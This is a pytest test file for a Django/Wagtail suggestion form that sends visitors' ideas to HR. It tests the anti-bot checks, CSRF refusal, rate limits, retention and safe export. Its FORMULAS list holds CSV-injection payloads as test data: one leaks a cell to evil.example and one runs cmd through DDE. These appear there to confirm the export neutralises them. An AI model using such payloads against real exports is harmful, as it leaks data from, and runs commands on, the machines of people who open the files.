"""'Your opinion matters' suggestions: sent to HR and kept, never lost on a failed check, safe
against forged, doubled, oversized or too frequent posts."""

import csv
import time

import pytest
from django.core import mail
from django.test import Client
from wagtail.contrib.forms.models import FormSubmission

from core.human_check import new_token
from home.models import SuggestionFormPage
from home.models.suggestions import SUBMISSIONS_PER_HOUR

pytestmark = pytest.mark.django_db

URL_EN = "/en/your-opinion-matters/suggestion-box/"
URL_FR = "/fr/votre-avis-compte/boite-a-idees/"


def post(client, url=URL_EN, *, picture="maison", token=None, **fields):
    data = {
        "theme": "Careers",
        "votre_suggestion": "More nursery places near the campus, please.",
        "votre_adresse_e_mail": "",
        "picture": picture,
        "website": "",
        "check_token": token or new_token("maison", shown_at=time.time() - 30),
    }
    data.update(fields)
    return client.post(url, data)


def test_the_form_asks_in_each_language_with_its_limits(client):
    english = client.get(URL_EN).content.decode()
    assert "Your suggestion" in english and "Up to 5,000 characters." in english
    assert 'maxlength="5000"' in english
    assert "Check that you are a person" in english
    assert 'class="honeypot" aria-hidden="true"' in english
    french = client.get(URL_FR).content.decode()
    assert "Votre suggestion" in french and "Vérifiez que vous êtes une personne" in french
    assert "Jusqu’à 5\u202f000 caractères." in french  # a no-break space between thousands


def test_a_suggestion_reaches_hr_by_email_and_is_kept_without_the_guards(client):
    response = post(client)
    assert response.status_code == 200
    assert "Thank you: your suggestion has been received" in response.content.decode()
    page = SuggestionFormPage.objects.get(locale__language_code="en")
    submission = FormSubmission.objects.get(page=page)
    data = submission.get_data()
    assert data["votre_suggestion"] == "More nursery places near the campus, please."
    assert not {"picture", "website", "check_token"} & set(data)
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["ressources-humaines@example.org"]
    assert "More nursery places" in message.body
    assert "check_token" not in message.body and "maison" not in message.body


def test_a_wrong_picture_keeps_everything_typed(client):
    response = post(client, picture="arbre", votre_suggestion="Une idée longue et précieuse.")
    html = response.content.decode()
    assert "That is not the picture asked for" in html
    assert "Une idée longue et précieuse." in html
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


def test_bots_are_turned_away_quietly(client):
    assert "could not be sent" in post(client, website="http://spam.example").content.decode()
    fast = post(client, token=new_token("maison", shown_at=time.time()))
    assert "very fast" in fast.content.decode()
    assert FormSubmission.objects.count() == 0


def test_missing_and_oversized_text_get_a_message_next_to_the_field(client):
    empty = post(client, votre_suggestion="")
    assert "This field is required" in empty.content.decode() or "requis" in empty.content.decode()
    huge = post(client, votre_suggestion="x" * 1_000_000)  # a 1 MB body
    assert huge.status_code == 200
    assert "at most 5000 characters" in huge.content.decode()
    assert FormSubmission.objects.count() == 0


def test_a_forged_post_without_csrf_token_is_refused_with_a_clear_page():
    client = Client(enforce_csrf_checks=True)
    response = post(client)
    assert response.status_code == 403
    assert "Form expired" in response.content.decode()
    assert FormSubmission.objects.count() == 0


def test_the_same_form_sent_twice_is_received_once(client):
    token = new_token("maison", shown_at=time.time() - 30)
    first = post(client, token=token)
    second = post(client, token=token)
    assert first.status_code == second.status_code == 200
    assert "Thank you" in second.content.decode()
    assert FormSubmission.objects.count() == 1
    assert len(mail.outbox) == 1


def test_too_many_messages_from_one_client_wait_an_hour(client):
    for _ in range(SUBMISSIONS_PER_HOUR):
        post(client, token=new_token("maison", shown_at=time.time() - 30))
    response = post(client, votre_suggestion="One more idea.")
    assert response.status_code == 429
    html = response.content.decode()
    assert "Too many messages" in html
    assert "One more idea." in html
    assert FormSubmission.objects.count() == SUBMISSIONS_PER_HOUR


def test_suggestions_are_deleted_after_their_retention_period(client):
    from datetime import timedelta

    from django.core.management import call_command
    from django.utils import timezone

    post(client)
    post(client, token=new_token("maison", shown_at=time.time() - 30))
    page = SuggestionFormPage.objects.get(locale__language_code="en")
    old = FormSubmission.objects.filter(page=page).first()
    old.submit_time = timezone.now() - timedelta(days=page.retention_days + 1)
    old.save()
    call_command("purge_answers", stdout=open("/dev/null", "w"))
    assert FormSubmission.objects.filter(page=page).count() == 1


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the attachment")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_export_of_submissions_runs_no_formula(client, english_admin, export):
    """A visitor's text that a spreadsheet would run as a formula (OWASP "CSV injection") is
    exported as text, quoted as the questionnaire's export does."""
    import io

    from django.urls import reverse
    from openpyxl import load_workbook

    visitor = Client()
    for text in FORMULAS:
        post(visitor, votre_suggestion=text)
    page = SuggestionFormPage.objects.get(locale__language_code="en")
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = english_admin.get(url, {"export": export})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        text = content.decode("utf-8")
        cells = {cell for line in csv.reader(io.StringIO(text)) for cell in line}
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = {cell.value for row in sheet.iter_rows() for cell in row}
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
        assert formula not in cells, formula
